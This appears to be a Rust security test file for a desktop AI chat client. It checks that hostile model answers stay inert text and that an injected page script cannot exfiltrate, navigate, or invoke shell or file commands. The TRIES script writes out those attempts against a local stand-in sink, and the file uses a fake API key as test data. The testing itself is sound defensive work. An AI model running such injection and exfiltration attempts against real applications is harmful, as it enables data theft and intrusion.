//! What a model says is data: a hostile answer runs nothing, loads nothing and goes nowhere.

use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use brasskey_tests::Script;
use brasskey_tests::desktop::Find;
use brasskey_tests::sandbox::{HOSTILE, Hostile};

use crate::accounts::ANTHROPIC;
use crate::person::Person;

/// Counts who comes.
pub(crate) struct Sink {
    pub(crate) address: String,
    visits: Arc<AtomicUsize>,
}

impl Sink {
    pub(crate) fn open() -> Self {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        let address = format!("http://{}", listener.local_addr().unwrap());
        let visits = Arc::new(AtomicUsize::new(0));
        let counter = Arc::clone(&visits);
        std::thread::spawn(move || {
            for visit in listener.incoming() {
                drop(visit);
                counter.fetch_add(1, Ordering::SeqCst);
            }
        });
        Self { address, visits }
    }

    pub(crate) fn visits(&self) -> usize {
        self.visits.load(Ordering::SeqCst)
    }
}

/// Where the messages lead.
const PLACE: &str = "https://sink.example";

/// Longer answers are cut: what one message may cost is bounded, so each is to have its own share.
const LONGEST_ANSWER: usize = 60_000;

/// All hostile messages, in few answers. What has no end stands at the end of one.
fn answers(sink: &Sink) -> Vec<String> {
    let (alone, along): (Vec<&Hostile>, Vec<&Hostile>) =
        HOSTILE.iter().partition(|message| message.alone);
    let mut answers: Vec<String> = Vec::new();
    let mut kind = "";
    for message in along {
        match answers.last_mut() {
            Some(answer)
                if kind == message.kind && answer.len() + message.text.len() < LONGEST_ANSWER =>
            {
                answer.push_str("\n\n");
                answer.push_str(&message.text);
            }
            _ => answers.push(message.text.clone()),
        }
        kind = &message.kind;
    }
    assert!(alone.len() < answers.len());
    for (answer, message) in answers.iter_mut().skip(1).zip(alone) {
        answer.push_str("\n\n");
        answer.push_str(&message.text);
    }
    let answers = answers.into_iter();
    answers
        .map(|answer| answer.replace(PLACE, &sink.address))
        .collect()
}

/// What is on the page that an answer must add nothing to: the window's own scripts and icons. The window's own parts come by
/// links as they are needed.
const CENSUS: &str = "return ['script', 'img', 'image', 'iframe', 'object', 'embed', 'style', 'video', 'audio', 'base', 'meta', 'form', 'a', \
     'link:not([rel=modulepreload],[rel=stylesheet])'].map((name) => document.querySelectorAll(name).length)";

/// What of the answers could run, load or lead somewhere.
const ARMED: &str = "return [...document.querySelectorAll('.prose *')].filter((element) => element.getAttributeNames().some(\
     (name) => name.startsWith('on') || ['src', 'href', 'action', 'formaction', 'style', 'srcset', 'poster', 'background', 'ping', \
     'id', 'name'].includes(name) && !(element.tagName === 'use' && element.getAttribute(name).startsWith('#')))).map(\
     (element) => element.outerHTML.slice(0, 200))";

/// Nothing has run, loaded or led anywhere.
async fn nothing_happened(person: &Person, sink: &Sink, before: &[serde_json::Value; 2]) {
    let [page, census] = before;
    let run = "return window.__hostile ?? null";
    assert_eq!(person.inspects(run).await, serde_json::Value::Null);
    assert_eq!(&person.inspects("return location.href").await, page);
    assert_eq!(&person.inspects(CENSUS).await, census);
    assert_eq!(person.inspects(ARMED).await, serde_json::json!([]));
    assert!(person.browser.pages().is_empty());
    assert_eq!(sink.visits(), 0, "nothing is loaded");
}

#[tokio::test]
async fn a_hostile_answer_is_text() {
    let sink = Sink::open();
    let person = Person::arrives().await;
    person.begins_with(ANTHROPIC).await;
    let before = [
        person.inspects("return location.href").await,
        person.inspects(CENSUS).await,
    ];
    for (at, answer) in answers(&sink).into_iter().enumerate() {
        person.sandbox.script(Script::answer(answer));
        person.asks("What do you say?").await;
        person.is_answered(at + 1).await;
        nothing_happened(&person, &sink, &before).await;
        if at == 0 {
            person.sees("After.").await;
            person.shot("hostile-1-shown").await;
            for link in person.all(Find::css("article .prose button")).await {
                // Some are links that ask, some copy code; none may do more.
                link.click().await.unwrap();
                person.hits("Escape").await;
            }
            person
                .no_longer_sees(Find::role("dialog", "Open this link outside Brasskey?"))
                .await;
            nothing_happened(&person, &sink, &before).await;
        }
    }
    // The sink counts: one visit of our own.
    TcpStream::connect(sink.address.trim_start_matches("http://")).unwrap();
    person
        .eventually("our own visit", async || sink.visits() == 1)
        .await;
}

#[tokio::test]
async fn a_link_says_where_it_goes_and_opens_outside_after_a_press() {
    let person = Person::arrives().await;
    person.begins_with(ANTHROPIC).await;
    person.asks("How long does sencha take?").await;
    person.is_answered(1).await;
    person.shot("answer-1-markdown").await;
    let link = Find::text("the tea society");
    person.clicks(link.clone()).await;
    person
        .sees("It goes to example.org and opens in your browser.")
        .await;
    person.sees("https://example.org/tea?brew=black").await;
    person.shot("answer-2-link").await;
    person.presses("Stay here").await;
    person
        .no_longer_sees(Find::text("It goes to example.org"))
        .await;
    assert!(person.browser.pages().is_empty());

    person.clicks(link).await;
    person.presses("Open in browser").await;
    person
        .eventually("the page in the browser", async || {
            person.browser.pages() == ["https://example.org/tea?brew=black"]
        })
        .await;
}

/// Runs in the page what a script that got in would try, and gives what came of each.
const TRIES: &str = r#"
const [sink, done] = [SINK, arguments[0]];
const outcome = {};
const attempt = async (name, act) => {
  try { outcome[name] = String(await act()); } catch { outcome[name] = "refused"; }
};
const loads = (element, source) => new Promise((resolve, reject) => {
  element.onload = () => resolve("loaded");
  element.onerror = reject;
  element.src = source;
  document.body.append(element);
  setTimeout(reject, 3000);
});
(async () => {
  await attempt("opens a window", () => window.open(sink) === null ? "refused" : "opened");
  await attempt("asks another host", () => fetch(sink));
  await attempt("loads an image", () => loads(new Image(), sink));
  await attempt("loads a script", () => loads(document.createElement("script"), sink));
  await attempt("evaluates text", () => (0, eval)("1"));
  await attempt("runs an inline script", () => {
    const script = document.createElement("script");
    script.textContent = "window.__inline = 1";
    document.body.append(script);
    return window.__inline === 1 ? "ran" : "refused";
  });
  await attempt("keeps an inline style", () => {
    const style = document.createElement("style");
    style.textContent = "body { outline: 7px solid red }";
    document.head.append(style);
    return getComputedStyle(document.body).outlineWidth === "7px" ? "applied" : "refused";
  });
  for (const command of ["plugin:clipboard-manager|read_text", "plugin:store|load", "plugin:opener|open_url",
    "plugin:webview|create_webview_window", "plugin:shell|execute", "plugin:fs|read_file", "plugin:app|version"]) {
    await attempt(command, () => window.__TAURI_INTERNALS__.invoke(command, { url: sink, path: "window.json" }));
  }
  const link = document.createElement("a");
  link.href = "data:application/octet-stream,planted";
  link.download = "planted.bin";
  document.body.append(link);
  link.click();
  const form = document.createElement("form");
  form.action = sink;
  document.body.append(form);
  form.submit();
  location.href = sink;
  setTimeout(() => done({ outcome, page: location.href }), 1500);
})();
"#;

#[tokio::test]
async fn a_script_in_the_page_goes_nowhere_and_gets_nothing() {
    let sink = Sink::open();
    let person = Person::arrives().await;
    person.sees("How should model use be billed?").await;
    let page = person.inspects("return location.href").await;
    let script = TRIES.replace("SINK", &format!("{:?}", sink.address));
    let client = person.window().client();
    let told = client.execute_async(&script, Vec::new()).await.unwrap();
    let outcome = told["outcome"].as_object().unwrap();
    assert!(outcome.len() >= 14, "{outcome:?}");
    for (attempt, came) in outcome {
        assert_eq!(came, "refused", "{attempt}");
    }
    assert_eq!(told["page"], page);
    assert_eq!(person.inspects("return location.href").await, page);
    assert_eq!(client.windows().await.unwrap().len(), 1, "no other window");
    assert_eq!(sink.visits(), 0, "nobody was asked");
    assert!(person.browser.pages().is_empty());
    assert!(
        person
            .desktop
            .files_containing("planted")
            .unwrap()
            .is_empty(),
        "nothing was downloaded"
    );
    person.sees("How should model use be billed?").await;
}

/// Calls commands with what does not fit, each time with a secret in it, and gives what came back.
const MALFORMED: &str = r#"
const [secret, done] = [SECRET, arguments[0]];
const wrong = [secret, [secret], { [secret]: secret }, 17, null, undefined];
const calls = [["keys_submit", "endpoint"], ["keys_submit", "secret"], ["keys_paste", "endpoint"], ["keys_rename", "label"], ["keys_check", "anyShape"],
  ["keys_sandbox", "provider"], ["chat_send", "turn"], ["chat_send", "events"], ["chat_estimate", "textChars"], ["custody_look", "soFar"],
  ["export_run", "scope"], ["import_run", "progress"], ["preferences_set", "preferences"], ["billing_choose", "mode"], ["terms_accept", "acceptances"],
  ["link_inspect", "url"], ["clipboard_copy", "text"], ["search", "limit"], ["drafts_save", "conversationId"], ["wallet_set_cap", "cap"], ["vault_create", "passphrase"],
  ["vault_change", "after"]];
const answers = [];
(async () => {
  for (const [command, field] of calls) for (const value of wrong) {
    if (typeof value === "string" && ["url", "text", "cap", "passphrase"].includes(field)) continue;
    // Preferences that are not known are passed over.
    if (field === "preferences" && value?.[secret] === secret) continue;
    try {
      answers.push({ command, field, came: await window.__TAURI_INTERNALS__.invoke(command, { [field]: value }) });
    } catch (refusal) {
      answers.push({ command, field, refusal });
    }
  }
  done(answers);
})();
"#;

#[tokio::test]
async fn a_malformed_command_is_answered_with_a_code_alone() {
    const SECRET: &str = "sk-proj-Zq7w9Xk393VbTnR5yUe8Lp2Mc6Hd4Gs";
    let person = Person::arrives().await;
    person.sees("How should model use be billed?").await;
    let script = MALFORMED.replace("SECRET", &format!("{SECRET:?}"));
    let client = person.window().client();
    let told = client.execute_async(&script, Vec::new()).await.unwrap();
    let answers = told.as_array().unwrap();
    assert!(answers.len() > 90, "{answers:?}");
    for answer in answers {
        assert_eq!(answer["refusal"]["code"], "invalid_input", "{answer}");
        let refusal = &answer["refusal"];
        assert_eq!(
            refusal["message"], "an argument of a command is malformed",
            "{answer}"
        );
        assert!(!answer.to_string().contains("Zq7w9"), "{answer}");
    }
}
